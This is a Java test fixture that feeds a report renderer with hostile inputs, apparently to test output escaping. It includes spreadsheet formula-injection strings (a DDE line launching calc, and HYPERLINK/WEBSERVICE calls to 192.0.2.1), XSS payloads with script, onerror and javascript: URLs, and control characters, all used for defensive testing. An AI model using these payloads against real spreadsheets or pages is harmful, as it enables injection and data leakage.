package io.portway.testbed.report;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.portway.testbed.corpus.Corpus;
import io.portway.testbed.corpus.Text;
import io.portway.testbed.daemon.Programs;
import io.portway.testbed.process.Command;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;

/**
 * A report whose first paragraphs, ids, titles, documents and remarks try to be formulas, markup,
 * scripts and control characters, and whose further ones are ordinary Chinese, three pages of them.
 */
final class HostileReport {
  /** The paragraphs in all. */
  static final int PARAGRAPHS = 90;

  static final String CJK = "放慢速度并不等于拖沓";

  /** What a spreadsheet would calculate, fetch or start. */
  static final List<String> FORMULAS =
      List.of(
          "=1+1",
          "+2+3",
          "-4+5",
          "@SUM(1,2)",
          "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"x\")",
          "=WEBSERVICE(\"http://192.0.2.1/\")",
          "=cmd|' /C calc'!A0",
          "\t=6+7");

  /** What a browser would run or load. */
  static final List<String> MARKUP =
      List.of(
          "<script>window.ran = 1; fetch('http://192.0.2.1/')</script>",
          "<img src=http://192.0.2.1/x onerror='window.ran = 2'>",
          "\"><svg onload=window.ran=3>",
          "</div></td><iframe src='javascript:parent.ran=4'></iframe>",
          "<a href='javascript:window.ran=5'>甲</a><style>body{display:none}</style>",
          "&lt;b&gt; &amp; ]]> <!-- <![CDATA[ -->");

  /** What XML can't hold, or what would turn a line around. */
  static final List<String> CONTROLS =
      List.of(
          "甲\u0000乙\u0001丙\u0007丁", "甲\u001b[31m乙\u0085丙\u2028丁\u000b戊", "甲\u202e乙\ufffe丙\r\n丁\t戊");

  private static final ObjectMapper JSON = new ObjectMapper();

  private HostileReport() {}

  /** Has the real program write the report as files of these names. */
  static void render(Path directory, String... names) throws IOException {
    Path json = directory.resolve("report.json");
    JSON.writeValue(json.toFile(), report());
    Command render =
        Programs.built().client().and("sim", "render", json).with("LC_ALL", "zh_CN.UTF-8");
    for (String name : names) {
      render = render.and("-o", directory.resolve(name));
    }
    render.run(Duration.ofSeconds(60)).outOrThrow();
    Files.delete(json);
  }

  private static ObjectNode report() {
    ObjectNode report = JSON.createObjectNode();
    report.put("schema", "portway-report/1").put("finished", "2026-11-23T05:00:00Z");
    report.putObject("parameters").put("index", "=1+1").put(MARKUP.get(0), MARKUP.get(1));
    ArrayNode notes = report.putArray("notes");
    notes.addObject().put("kind", "warning").put("line", 3).put("text", MARKUP.get(0));
    notes.addObject().put("kind", "rejected").put("line", 4).put("text", FORMULAS.get(0));
    ArrayNode paragraphs = report.putArray("paragraphs");
    FORMULAS.forEach(text -> paragraph(paragraphs, text));
    MARKUP.forEach(text -> paragraph(paragraphs, text));
    CONTROLS.forEach(text -> paragraph(paragraphs, text));
    for (Text text : Corpus.texts().subList(0, PARAGRAPHS - paragraphs.size())) {
      paragraph(paragraphs, CJK + "。" + text.summary());
    }
    return report;
  }

  /** The text stands everywhere where a text from outside can stand. */
  private static void paragraph(ArrayNode paragraphs, String text) {
    int seq = paragraphs.size() + 1;
    boolean ordinary = text.startsWith(CJK);
    ObjectNode one = paragraphs.addObject();
    one.put("seq", seq).put("line", seq).put("letters", text.length()).put("status", "ok");
    one.put("id", ordinary ? "1-" + seq : text).put("title", ordinary ? "第" + seq + "段" : text);
    one.put("reason", ordinary ? "" : text).put("body", text).put("example", text);
    one.put("verdict", "copied").put("copied", seq / 100.0).put("likeness", (99 - seq) / 100.0);
    ObjectNode match = one.putArray("matches").addObject();
    match.put("rank", 1).put("index", ordinary ? "texts" : text);
    match.put("docId", ordinary ? "d" + seq : text).put("esScore", 12.5);
    match.put("copied", seq / 100.0).put("likeness", 0.5).put("text", text);
    int end = text.codePointCount(0, Math.min(text.length(), 4));
    ObjectNode run = match.putArray("runs").addObject();
    run.put("from", 0).put("to", end).put("docFrom", 0).put("docTo", end);
    match.putObject("fields").put(ordinary ? "title" : text, text);
  }
}
